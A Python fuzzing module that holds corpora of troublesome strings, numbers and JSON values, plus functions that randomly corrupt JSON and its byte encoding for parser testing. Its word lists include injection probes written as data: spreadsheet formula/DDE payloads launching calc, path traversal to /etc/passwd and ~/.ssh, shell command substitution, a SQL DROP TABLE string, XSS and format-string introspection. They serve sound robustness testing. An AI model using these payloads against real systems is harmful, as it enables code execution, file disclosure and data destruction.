"""Texts, numbers and JSON that readers stumble over, for the kinds of :mod:`tools.fuzz`."""

import copy
import json
import random
from typing import Any

Chance = random.Random

FORMULAS = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    "+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    '=HYPERLINK("http://x.invalid/?"&A1,"看")',
    '=DDE("cmd";"/c calc";"!A0")',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)
"""What a spreadsheet may run (OWASP: CSV injection)."""
PATHS = (
    *("../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\boot.ini", "..", "."),
    *("\\\\host\\share\\a", "a/../../b", "~/.ssh/id", "CON", "nul.txt", "con.", "a\0.png"),
    *("file:///etc/passwd", "http://x.invalid/a", " ", "...", "%2e%2e%2f", "a:stream", "-rf"),
)
WORDS = (
    *("", " ", "　", "\0", "a\0b", "\x07", "\x1b[31m", "\ufeff", "\u200b", "\ufffe", "\uffff"),
    *("\u202e村庄", "村\u2066庄\u2069", "\u200f甲", "e\u0301" * 40, "𡐓子村", "👨‍👩‍👧", "\ue000"),
    *(
        "<script>alert(1)</script>",
        "]]>",
        "&amp;&#x0;",
        '"',
        "'",
        "''\"\"",
        "%s%n%d",
        "{0.__class__}",
    ),
    *(
        "{}",
        "{村名}",
        "{村名.__class__.__mro__}",
        "${x}",
        "`id`",
        "$(id)",
        "';DROP TABLE current;--",
    ),
    *(
        "未到场",
        "不涉及",
        "弃权",
        "TRUE",
        "NULL",
        "None",
        "nan",
        "#N/A",
        "#REF!",
        "_x0000_",
        "_x0041_",
    ),
    *("甲" * 33, "村" * 40_000, "a" * 70_000, "\n" * 300, "甲\r\n乙", "a,b;c|d\te", "13800138000"),
    *FORMULAS,
    *PATHS,
)
NUMBERS = (
    *(
        "0",
        "-0",
        "-1",
        "1",
        "100",
        "100.000001",
        "92.5",
        "９２．５",
        "92。5",
        "95.",
        ".5",
        "+5",
        "--5",
    ),
    *("1e5", "1E400", "-1e400", "1e-400", "NaN", "Infinity", "-inf", "0x1F", "1_000", "1,000", "५"),
    *("9" * 16, "9" * 31, "9" * 5000, "0." + "0" * 40 + "1", "1/3", "1/0", "256/3", "1e999999999"),
    *(
        "44927.5",
        "-5",
        "1048577",
        "2147483648",
        "9223372036854775808",
        "分",
        "９" * 30 + "分",
        "%",
        "1%",
    ),
)
VALUES: tuple[Any, ...] = (
    *(None, True, False, 0, -1, 1, 2**31, 2**63, 2**64, -(2**63) - 1, 10**40, 1.5, -0.0, 1e308),
    *(
        float("nan"),
        float("inf"),
        [],
        {},
        [[]],
        [None],
        {"": ""},
        {"__class__": "x"},
        "\ud800",
        "1/0",
    ),
    *("1e99999999", "1e-99999999", "9" * 5000, "甲" * 5000, ["甲"] * 2000),
)
DEEP = "[" * 100_000
"""Deeper than any reader nests."""


def text(chance: Chance) -> str:
    """A word, a number, characters at random, or some of these on end."""
    what = chance.randrange(6)
    if what == 0:
        return chance.choice(NUMBERS)
    if what == 1:
        return "".join(chr(_point(chance)) for _ in range(chance.randint(0, 12)))
    if what == 2:
        return "".join(chance.choice(WORDS)[:200] for _ in range(chance.randint(2, 4)))
    return chance.choice(WORDS)


def _point(chance: Chance) -> int:
    """Any character but half a pair, common planes first."""
    point = chance.randrange(chance.choice((0x80, 0x3000, 0xA000, 0x110000)))
    return 0x41 if 0xD800 <= point < 0xE000 else point


def value(chance: Chance) -> Any:
    """Something JSON can say where something else is wanted."""
    what = chance.randrange(4)
    if what == 0:
        return text(chance)
    if what == 1:
        return chance.choice(NUMBERS)
    return copy.deepcopy(chance.choice(VALUES))


def spoiled(chance: Chance, data: Any) -> str:
    """``data`` as JSON text, one to three places of it changed; sometimes the text itself."""
    data = copy.deepcopy(data)
    for _ in range(chance.choice((1, 1, 1, 2, 3))):
        data = _spoil(chance, data)
    said = json.dumps(data, ensure_ascii=chance.random() < 0.5)
    what = chance.randrange(80)
    if what == 0:
        return DEEP
    if what == 1:
        return said[: chance.randrange(len(said) + 1)]
    if what == 2:
        at = chance.randrange(len(said) + 1)
        return said[:at] + text(chance) + said[at:]
    if what == 3:
        return said.replace(":", ": " + DEEP + ",", 1)
    return said


def spoiled_bytes(chance: Chance, data: Any) -> bytes:
    """:func:`spoiled` as a file holds it: mostly UTF-8, now and then something else."""
    said = spoiled(chance, data)
    encoding = chance.choice(("utf-8",) * 40 + ("utf-8-sig", "utf-16", "gb18030", "latin-1"))
    found = said.encode(encoding, "surrogatepass" if encoding[:3] == "utf" else "replace")
    if chance.random() < 0.05:
        at = chance.randrange(len(found) + 1)
        found = found[:at] + chance.randbytes(chance.randint(1, 9)) + found[at:]
    return found


def _spoil(chance: Chance, data: Any) -> Any:
    """One node replaced, left out, doubled, wrapped or renamed."""
    holder, key = _somewhere(chance, data)
    if holder is None:
        return value(chance)
    what = chance.randrange(8)
    if what == 0:
        del holder[key]
    elif what == 1:
        holder[key] = [holder[key]]
    elif what == 2 and isinstance(holder, dict):
        holder[text(chance)] = holder.pop(key)
    elif what == 3 and isinstance(holder, list):
        holder += [holder[key]] * chance.choice((1, 3, 200))
    elif what == 4 and isinstance(holder[key], str):
        holder[key] = holder[key] + text(chance)
    else:
        holder[key] = value(chance)
    return data


def _somewhere(chance: Chance, data: Any) -> tuple[Any, Any]:
    """A place within: its holder and its key there; nothing in what holds nothing."""
    places: list[tuple[Any, Any]] = []
    waiting = [data]
    while waiting:
        node = waiting.pop()
        keys = list(node) if isinstance(node, dict) else range(len(node))
        places += [(node, key) for key in keys]
        waiting += [node[key] for key in keys if isinstance(node[key], dict | list)]
    return chance.choice(places) if places else (None, None)
